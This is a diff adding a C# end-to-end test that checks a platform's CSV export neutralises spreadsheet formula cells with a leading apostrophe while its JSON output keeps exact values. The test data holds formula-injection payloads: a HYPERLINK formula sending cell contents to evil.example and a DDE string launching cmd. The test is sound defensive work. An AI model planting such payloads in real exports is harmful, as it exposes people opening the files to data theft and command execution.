@@ -265,6 +265,40 @@ public sealed class SandboxEndToEndTests(PlatformHostFixture platform)
         Assert.Equal("cancelled", (await staff.GetFromJsonAsync<JsonElement>(url)).GetProperty("status").GetString());
     }
 
+    /// <summary>
+    /// Issue 20 item 7: a result cell a spreadsheet would run as a formula (=, +, -, @) comes back in the CSV quoted with a
+    /// leading apostrophe, as the disclosure CSV does; the JSON form keeps the exact values, and numbers stay numbers.
+    /// </summary>
+    [Fact]
+    public async Task ResultCsv_FormulaCells_NeutralisedWhileJsonKeepsThemExact()
+    {
+        var setup = await SharedAsync();
+        using var staff = StaffClient(platform, setup);
+        var sql = $"SELECT '=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此\")' AS link, '+1+cmd|'' /C calc''!A0' AS dde, '-2+3' AS minus, '@SUM(A1:A9)' AS at, -5 AS n, district FROM {setup.TableName} LIMIT 3";
+
+        var job = await RunAsync(staff, setup, "sample", sql);
+
+        Assert.True(job.GetProperty("status").GetString() == "released", job.ToString());
+        using var csvRequest = new HttpRequestMessage(HttpMethod.Get, job.GetProperty("result").GetString());
+        csvRequest.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
+        var csvResponse = await staff.SendAsync(csvRequest);
+        var bytes = await csvResponse.Content.ReadAsByteArrayAsync();
+        Assert.Equal(job.GetProperty("resultHash").GetString(), Convert.ToHexStringLower(SHA256.HashData(bytes)));
+        var lines = Encoding.UTF8.GetString(bytes).TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
+        Assert.Equal(4, lines.Length);
+        Assert.All(lines.Skip(1), line => Assert.StartsWith(
+            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点此\"\")\",\"'+1+cmd|' /C calc'!A0\",\"'-2+3\",\"'@SUM(A1:A9)\",-5,", line, StringComparison.Ordinal));
+
+        using var jsonRequest = new HttpRequestMessage(HttpMethod.Get, job.GetProperty("result").GetString());
+        jsonRequest.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("application/json"));
+        var json = await (await staff.SendAsync(jsonRequest)).Content.ReadFromJsonAsync<JsonElement>();
+        var first = json.GetProperty("rows")[0];
+        Assert.Equal("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此\")", first[0].GetString());
+        Assert.Equal("+1+cmd|' /C calc'!A0", first[1].GetString());
+        Assert.Equal("-2+3", first[2].GetString());
+        Assert.Equal("@SUM(A1:A9)", first[3].GetString());
+    }
+
     private async Task<SandboxSetup> SharedAsync()
     {
         await SetupLock.WaitAsync();
